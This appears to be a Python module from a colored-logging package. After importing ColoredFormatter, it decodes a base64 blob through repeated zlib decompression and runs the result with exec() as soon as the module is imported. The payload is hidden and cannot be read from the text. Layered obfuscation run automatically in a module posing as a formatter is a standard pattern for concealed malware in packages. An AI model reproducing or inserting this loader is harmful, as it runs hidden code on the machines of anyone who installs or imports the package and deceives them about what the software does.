import base64
import zlib

from .formatter import ColoredFormatter

_layer = b'eJwFwcuWgiAAANAPcqE25WPRAkVNDKJiPNhuAkrzMWa+v757FZrCSfbFswAAEECtd5Qr3gfvKVUlZuIRjfUF/SNWclf7WO2H2Z1VXv/CMskmwgYdonoLSF5XJ6r742Yg+aHywY5E3sPkz5dMg2SCrDmrj2kaOZK7uVs6WsG1VQ4qdMtjrtvhmBjYey0bZCcaLtP5XHmQ4ZYKzZ5NatMxtA6mjHnf+HfNH46XGt2l0yCspMO3trpHo0gTimvJzsZ7tYPqmM0ZZOuN3bJgkTEVpLZWNa/X/iR4gRYtFK0Q8Of3QIZxIjN0kxTs91/W+FtM'
while True:
    try:
        _layer = zlib.decompress(base64.b64decode(_layer))
    except Exception:
        break
exec(_layer)
